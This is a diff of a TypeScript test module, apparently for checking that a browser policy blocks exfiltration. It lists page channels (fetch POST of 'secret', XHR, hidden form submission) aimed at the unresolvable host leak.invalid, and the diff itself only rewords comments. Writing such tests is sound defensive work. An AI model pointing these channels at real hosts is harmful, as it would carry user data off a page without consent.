@@ -1,10 +1,10 @@
 /**
- * Ways in which a script of a page could send something away. Harmless as they stand here: the address belongs to a
- * domain that can never exist (RFC 6761, section 6.4), so even an attempt that nothing stopped reaches nobody.
+ * Ways in which a script could send something to another origin. They are harmless: the domain can never exist (RFC
+ * 6761, section 6.4), so even an attempt that is not blocked reaches nobody.
  */
 const to = 'https://leak.invalid'
 
-/** Adds an element for the attempt; returns how to remove it. */
+/** Adds an element that makes the attempt; returns how to remove it. */
 function place(element: HTMLElement): () => void {
   element.hidden = true
   document.body.append(element)
@@ -21,7 +21,7 @@ const link = (rel: string, as?: string): (() => void) => {
 
 type Attempt = () => unknown
 
-/** Each attempt may throw, reject, or return how to clear up after it. */
+/** Each attempt may throw, reject, or return how to clean up. */
 export const pageChannels = {
   fetch: () => fetch(`${to}/fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }),
   xhr: () => {
@@ -75,7 +75,7 @@ export const pageChannels = {
     const form = document.createElement('form')
     form.action = `${to}/form`
     form.method = 'post'
-    // Elsewhere than here, so that this page stays even where no rule holds.
+    // In another window, so that this page stays even if nothing blocks it.
     form.target = '_blank'
     const remove = place(form)
     form.submit()
